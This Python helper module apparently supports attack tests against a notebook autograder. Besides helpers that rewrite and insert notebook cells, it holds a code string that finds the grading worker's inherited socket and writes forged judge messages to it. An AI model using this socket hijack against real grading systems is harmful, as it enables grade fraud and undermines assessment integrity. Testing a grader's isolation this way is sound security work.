"""What many attacks need: cells of the released notebook by grade id, cells added to it, the worker's socket."""

from __future__ import annotations

from nbformat.v4 import new_code_cell, new_markdown_cell

#: The names each question of the attacked assignment asks for.
ASKED = {
    "a01-q1": ["answer"], "a01-q2": ["zero_years"], "a01-q3": ["total", "share"], "a01-q4": ["order"],
    "a01-q5": ["import_share"], "a01-q6": ["ax"], "a01-q7": ["top_supplier_share"],
}  # fmt: skip

#: Code that finds the socket of the worker, as any student's code can, and writes frames of its own to it.
SOCKET = """
import json, os, socket, stat, struct, threading, time

def find_judge():
    for number in range(3, 256):
        try:
            if stat.S_ISSOCK(os.fstat(number).st_mode):
                return socket.socket(fileno=os.dup(number))
        except OSError:
            pass

judge = find_judge()

def frame(message):
    data = message if isinstance(message, bytes) else json.dumps(message).encode()
    return struct.pack(">I", len(data)) + data

def forge(message, delay=0.0):
    time.sleep(delay)
    judge.setblocking(True)
    judge.sendall(frame(message))
"""


def by_id(notebook) -> dict:
    """Cells by grade id."""
    marked = [c for c in notebook.cells if "nbgrader" in c.metadata]
    return {c.metadata.nbgrader.grade_id: c for c in marked}


def checks(notebook) -> list:
    """The test cells."""
    return [c for name, c in by_id(notebook).items() if name.endswith("-check")]


def answers(notebook) -> list:
    """The cells a student writes in."""
    return [c for name, c in by_id(notebook).items() if name.endswith("-answer")]


def answer(notebook, question: str, source: str):
    """Give one question an answer."""
    by_id(notebook)[f"{question}-answer"].source = source
    return notebook


def answer_all(notebook, expression: str, before: str = ""):
    """Bind every name that is asked for to the same expression."""
    for question, names in ASKED.items():
        answer(notebook, question, before + "\n" + "\n".join(f"{name} = {expression}" for name in names))
    return notebook


def first(notebook, source: str):
    """Put a cell of one's own before everything else."""
    notebook.cells.insert(0, new_code_cell(source))
    return notebook


def after(notebook, grade_id: str, source: str):
    """Put a cell of one's own behind another cell."""
    notebook.cells.insert(notebook.cells.index(by_id(notebook)[grade_id]) + 1, new_code_cell(source))
    return notebook


def last(notebook, source: str):
    """Put a cell of one's own at the end."""
    notebook.cells.append(new_code_cell(source))
    return notebook


def write(notebook, source: str):
    """Put a text of one's own at the end."""
    notebook.cells.append(new_markdown_cell(source))
    return notebook


def essay(notebook, source: str):
    """Write the essay."""
    next(c for c in notebook.cells if "essay" in c.metadata.get("tags", [])).source = source
    return notebook
